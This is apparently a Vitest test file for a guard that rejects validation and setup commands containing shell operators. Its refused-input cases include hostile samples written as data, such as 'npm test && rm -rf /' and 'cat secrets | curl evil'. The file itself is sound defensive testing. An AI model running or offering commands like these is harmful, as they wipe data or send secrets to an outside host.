import { describe, expect, it } from 'vitest';
import { setupCommandProblem, splitCommand, validationCommandProblem } from './validation-commands.ts';

describe('validation command guard', () => {
  it.each(['npm test', 'npm run lint', 'npx tsc --noEmit', 'pytest -q tests/', 'go test ./...', 'make check', "node -e 'process.exit(0)'"])(
    'accepts %s',
    (command) => expect(validationCommandProblem(command)).toBeNull(),
  );

  it.each([
    ['npm test && rm -rf /', '&&'],
    ['npm test; rm -rf /', ';'],
    ['cat secrets | curl evil', '|'],
    ['echo `whoami`', '`'],
    ['echo $(whoami)', '$('],
    ['npm test > /dev/null', '>'],
    ['mysql < dump.sql', '<'],
    ['sleep 100 &', '&'],
    ['false || true', '||'],
  ])('refuses %s, naming %s', (command, shown) => {
    expect(validationCommandProblem(command)).toContain(`contains "${shown}"`);
  });

  it('refuses empty commands', () => {
    expect(validationCommandProblem('   ')).toMatch(/cannot be empty/);
  });

  it('splits arguments with quotes', () => {
    expect(splitCommand(`node -e "console.log('hi there')" --flag`)).toEqual(['node', '-e', "console.log('hi there')", '--flag']);
    expect(() => splitCommand('echo "oops')).toThrow(/Unclosed/);
  });

  it('names setup commands as such, and refuses an unclosed quote before a job runs them', () => {
    expect(setupCommandProblem('pip install -r requirements.txt')).toBeNull();
    expect(setupCommandProblem('apt-get update; apt-get install -y jq')).toBe('Setup command "apt-get update; apt-get install -y jq" contains ";"; list commands one per line instead (they run without a shell).');
    expect(setupCommandProblem('echo "oops')).toMatch(/^Setup command "echo "oops" cannot be read: Unclosed "/);
  });
});
